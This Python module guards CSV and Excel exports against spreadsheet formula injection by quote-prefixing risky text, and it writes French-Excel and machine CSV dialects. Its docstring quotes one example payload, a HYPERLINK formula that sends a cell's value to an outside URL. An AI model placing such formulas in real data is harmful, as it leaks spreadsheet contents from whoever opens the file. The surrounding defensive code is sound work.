"""Spreadsheet-safe text: the one primitive every CSV and XLSX writer of gpect uses.

A text cell that starts with `=`, `+`, `-`, `@`, a tab or a carriage return is read as a formula
by Excel, LibreOffice and Google Sheets when the file is opened (CSV injection, e.g. a commune
name `=HYPERLINK("http://…?leak="&B2,"Béziers")`). Following OWASP's guidance
(https://owasp.org/www-community/attacks/CSV_Injection), such a cell is prefixed with a single
quote so that it is shown as the text it is. Numbers are left alone: only text is neutralised.
CSV files are written the RFC 4180 way (CRLF line ends), so that a field holding a carriage return
or a line feed is quoted and cannot split its row.

Two dialects: the machine one (`,`, decimal point, UTF-8 without BOM, booleans `true`/`false`)
and the French-Excel one, which a French Excel opens by double-click into columns: `;` between
fields, decimal comma, a UTF-8 byte-order mark (without it Excel reads UTF-8 as Windows-1252) and
booleans `oui`/`non`. Rounding and French headers are the caller's (they depend on the column).
Files are written atomically (`connectors.shared.files`).
"""

from __future__ import annotations

import csv
from pathlib import Path
from typing import Any

import pandas as pd

from connectors.shared.files import write_with

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_text(value: Any) -> Any:
    """`value` unchanged unless it is text a spreadsheet would evaluate; then quote-prefixed."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text columns (object or string dtype) are neutralised."""
    out = frame.copy()
    for column in out.columns:
        series = out[column]
        if pd.api.types.is_object_dtype(series) or pd.api.types.is_string_dtype(series):
            out[column] = series.map(safe_text, na_action="ignore")
    return out


def write_csv(frame: pd.DataFrame, path: Path, *, excel_fr: bool = False) -> Path:
    """`frame` as CSV at `path` (no index), its text neutralised and every field holding a
    delimiter, quote, CR or LF quoted, written atomically; `excel_fr`: the French-Excel dialect."""
    out = safe_frame(frame)
    yes, no = ("oui", "non") if excel_fr else ("true", "false")
    for column in out.columns:
        if pd.api.types.is_bool_dtype(out[column]):
            out[column] = out[column].map({True: yes, False: no})
    return write_with(
        path,
        lambda tmp: out.to_csv(
            tmp,
            index=False,
            sep=";" if excel_fr else ",",
            decimal="," if excel_fr else ".",
            encoding="utf-8-sig" if excel_fr else "utf-8",
            quoting=csv.QUOTE_MINIMAL,
            lineterminator="\r\n",
        ),
    )
